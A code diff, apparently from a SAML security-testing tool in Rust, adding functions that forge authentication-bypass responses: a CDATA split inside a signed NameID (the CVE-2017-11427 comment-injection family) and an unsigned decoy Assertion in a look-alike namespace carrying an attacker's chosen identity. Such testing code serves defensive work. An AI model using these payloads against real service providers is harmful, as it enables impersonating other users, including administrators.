@@ -262,6 +262,44 @@ pub fn comment_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<Stri
     Ok(doc.to_xml())
 }
 
+/// The signed NameID split into text and a CDATA section right after `visible_prefix`: `admin@corp.example` +
+/// `<![CDATA[.evil.example]]>`. Canonical XML replaces CDATA sections by their characters (C14N 1.0 §1.1,
+/// Exclusive C14N §1), so the signature over `admin@corp.example.evil.example` still verifies; an SP that reads
+/// only the first text node logs in `admin@corp.example` — the comment-injection family of CVE-2017-11427, through
+/// a node type an SP that only strips comments misses.
+pub fn cdata_in_name_id(signed_xml: &str, visible_prefix: &str) -> Result<String, SamlIdpError> {
+    let mut doc = Document::parse(signed_xml)?;
+    let index = assertion_index(&doc)?;
+    let name = element_at(&mut doc.root, index)?
+        .child_mut(ASSERTION_NS, "Subject")
+        .and_then(|s| s.child_mut(ASSERTION_NS, "NameID"))
+        .ok_or(SamlIdpError::Missing("a Subject NameID in the Assertion"))?;
+    let text = name.text();
+    let rest = text.strip_prefix(visible_prefix).filter(|rest| !rest.is_empty() && !rest.contains("]]>")).ok_or_else(
+        || SamlIdpError::NotApplicable(format!("the NameID {text:?} does not extend {visible_prefix:?}")),
+    )?;
+    name.children = vec![Node::Text(escape_text(visible_prefix)), Node::CData(rest.to_owned())];
+    Ok(doc.to_xml())
+}
+
+/// The namespace of [`foreign_namespace_assertion`]'s decoy: the SAML assertion namespace with a suffix.
+pub const DECOY_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:decoy";
+
+/// An unsigned copy of the signed Assertion claiming `evil_name_id`, renamed into another namespace
+/// ([`DECOY_NS`]) and put first. Element identity is namespace name plus local name (Namespaces in XML 1.0 §2.1),
+/// so the SP's one Assertion is still the signed one; an SP that finds elements by local name alone (an XPath of
+/// `local-name()`, a DOM walk comparing tag suffixes) reads the decoy.
+pub fn foreign_namespace_assertion(signed_xml: &str, evil_name_id: &str) -> Result<String, SamlIdpError> {
+    let mut doc = Document::parse(signed_xml)?;
+    let index = assertion_index(&doc)?;
+    let mut decoy = evil_assertion(element_at(&mut doc.root, index)?, evil_name_id)?;
+    decoy.name = "decoy:Assertion".into();
+    decoy.ns = Some(DECOY_NS.into());
+    decoy.attrs.push(("xmlns:decoy".into(), DECOY_NS.into()));
+    doc.root.children.insert(index, Node::Element(decoy));
+    Ok(doc.to_xml())
+}
+
 /// A document type declaration put in front of the root, its entity referenced from the NameID.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Dtd {
